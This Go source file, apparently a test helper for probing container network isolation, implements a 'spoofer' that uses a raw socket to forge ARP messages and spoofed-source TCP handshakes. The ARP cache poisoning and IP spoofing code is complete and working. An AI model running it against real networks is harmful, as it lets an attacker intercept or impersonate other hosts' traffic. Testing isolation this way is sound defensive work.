// Command spoofer is the program of a hostile container. It uses a raw socket, which containers may
// open by default, to send frames with source addresses of others, and prints the received
// responses.
//
//	spoofer wait
//	spoofer syn SOURCE TARGET PORT      a TCP handshake as SOURCE; prints "answered" or "no answer"
//	spoofer arp VICTIM CLAIMED SECONDS  claims the address CLAIMED in ARP messages to VICTIM; prints how many of its packets arrived
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

const (
	answerLimit = 5 * time.Second        // deadline of a TCP handshake
	repeatEvery = 200 * time.Millisecond // interval at which frames are repeated
	sourcePort  = 45678
)

func main() {
	if err := runCommand(os.Args[1:]); err != nil {
		fmt.Println("error:", err)
		os.Exit(1)
	}
}

// runCommand runs the subcommand in args.
func runCommand(args []string) error {
	if len(args) == 1 && args[0] == "wait" {
		stopped := make(chan os.Signal, 1)
		signal.Notify(stopped, unix.SIGTERM)
		<-stopped
		return nil
	}
	if len(args) != 4 {
		return errors.New("usage: spoofer syn SOURCE TARGET PORT | spoofer arp VICTIM CLAIMED SECONDS")
	}
	first, err := netip.ParseAddr(args[1])
	if err != nil {
		return err
	}
	second, err := netip.ParseAddr(args[2])
	if err != nil {
		return err
	}
	n, err := strconv.Atoi(args[3])
	if err != nil {
		return err
	}
	s, err := openRawSocket("eth0")
	if err != nil {
		return err
	}
	if args[0] == "syn" {
		return s.spoofHandshake(first, second, uint16(n))
	}
	return s.poisonARP(first, second, time.Duration(n)*time.Second)
}

// rawSocket is a raw socket on an interface.
type rawSocket struct {
	fd         int
	index      int
	mac        net.HardwareAddr
	ownAddress netip.Addr
}

// openRawSocket opens a raw socket on an interface.
func openRawSocket(name string) (*rawSocket, error) {
	link, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	s := &rawSocket{index: link.Index, mac: link.HardwareAddr}
	addrs, err := link.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			s.ownAddress = p.Addr()
		}
	}
	all := uint16(unix.ETH_P_ALL)
	all = all<<8 | all>>8
	if s.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(all)); err != nil {
		return nil, err
	}
	limit := unix.NsecToTimeval(repeatEvery.Nanoseconds())
	return s, errors.Join(unix.Bind(s.fd, &unix.SockaddrLinklayer{Protocol: all, Ifindex: s.index}),
		unix.SetsockoptTimeval(s.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit))
}

// sendFrame sends an Ethernet frame with this EtherType and payload to a hardware address.
func (s *rawSocket) sendFrame(target net.HardwareAddr, etherType uint16, payload []byte) error {
	frame := append(append([]byte{}, target...), s.mac...)
	frame = append(binary.BigEndian.AppendUint16(frame, etherType), payload...)
	return unix.Sendto(s.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: s.index, Halen: 6})
}

// sendARP sends an ARP message to a hardware address. op is the ARP operation. The message maps the
// address sender to this interface's hardware address.
func (s *rawSocket) sendARP(destination net.HardwareAddr, op byte, sender, target netip.Addr) error {
	b := append([]byte{0, 1, 8, 0, 6, 4, 0, op}, s.mac...)
	b = append(append(append(b, sender.AsSlice()...), make([]byte, 6)...), target.AsSlice()...)
	return s.sendFrame(destination, unix.ETH_P_ARP, b)
}

// readUntil reads frames until wanted returns true, and then returns true. It returns false when
// the time limit is over. Meanwhile it calls repeat every repeatEvery.
func (s *rawSocket) readUntil(limit time.Duration, repeat func() error, wanted func(frame []byte) bool) (bool, error) {
	buffer := make([]byte, 2048)
	last := time.Time{}
	for end := time.Now().Add(limit); time.Now().Before(end); {
		if time.Since(last) > repeatEvery {
			if err := repeat(); err != nil {
				return false, err
			}
			last = time.Now()
		}
		n, _, err := unix.Recvfrom(s.fd, buffer, 0)
		if err == nil && n >= 42 && wanted(buffer[:n]) {
			return true, nil
		}
	}
	return false, nil
}

var broadcast = net.HardwareAddr{255, 255, 255, 255, 255, 255}

// resolveMAC returns the hardware address of the neighbor with this IP address. The ARP request has
// this interface's own address as its source.
func (s *rawSocket) resolveMAC(neighbor netip.Addr) (mac net.HardwareAddr, err error) {
	found, err := s.readUntil(answerLimit, func() error {
		return s.sendARP(broadcast, 1, s.ownAddress, neighbor)
	}, func(f []byte) bool {
		sender, ok := netip.AddrFromSlice(f[28:32])
		if ok = ok && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_ARP && f[21] == 2 && sender == neighbor; ok {
			mac = append(net.HardwareAddr{}, f[22:28]...)
		}
		return ok
	})
	if err == nil && !found {
		err = fmt.Errorf("%s has no hardware address", neighbor)
	}
	return mac, err
}

// spoofHandshake opens a TCP connection to target with the address source, which is not an address
// of this machine. First it tells target by ARP that source is at this interface's hardware
// address.
func (s *rawSocket) spoofHandshake(source, target netip.Addr, port uint16) error {
	mac, err := s.resolveMAC(target)
	if err != nil {
		return err
	}
	answered, err := s.readUntil(answerLimit, func() error {
		return errors.Join(s.sendARP(mac, 2, source, target),
			s.sendFrame(mac, unix.ETH_P_IP, synPacket(source, target, port)))
	}, func(f []byte) bool {
		return len(f) >= 54 && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && f[23] == unix.IPPROTO_TCP &&
			netip.AddrFrom4([4]byte(f[26:30])) == target && netip.AddrFrom4([4]byte(f[30:34])) == source &&
			binary.BigEndian.Uint16(f[36:]) == sourcePort
	})
	if answered {
		fmt.Println("answered")
	} else {
		fmt.Println("no answer")
	}
	return err
}

// poisonARP claims the address claimed in ARP messages to victim until the time limit. It prints
// the number of packets of the victim that arrive here although they are for other addresses.
func (s *rawSocket) poisonARP(victim, claimed netip.Addr, limit time.Duration) error {
	mac, err := s.resolveMAC(victim)
	if err != nil {
		return err
	}
	came := 0
	_, err = s.readUntil(limit, func() error {
		return errors.Join(s.sendARP(mac, 2, claimed, victim), s.sendARP(mac, 1, claimed, victim))
	}, func(f []byte) bool {
		if binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && netip.AddrFrom4([4]byte(f[26:30])) == victim &&
			netip.AddrFrom4([4]byte(f[30:34])) == claimed {
			came++
		}
		return false
	})
	fmt.Println("packets:", came)
	return err
}

// synPacket returns an IPv4 packet that opens a TCP connection.
func synPacket(source, target netip.Addr, port uint16) []byte {
	tcp := make([]byte, 20)
	binary.BigEndian.PutUint16(tcp, sourcePort)
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], 1000)
	tcp[12], tcp[13] = 5<<4, 2
	binary.BigEndian.PutUint16(tcp[14:], 65000)
	addresses := append(source.AsSlice(), target.AsSlice()...)
	pseudo := append(append([]byte{}, addresses...), 0, unix.IPPROTO_TCP, 0, byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
	ip := append([]byte{0x45, 0, 0, byte(20 + len(tcp)), 0, 1, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}, addresses...)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	return append(ip, tcp...)
}

// checksum returns the IP and TCP checksum of an even number of bytes.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum>>16 != 0 {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
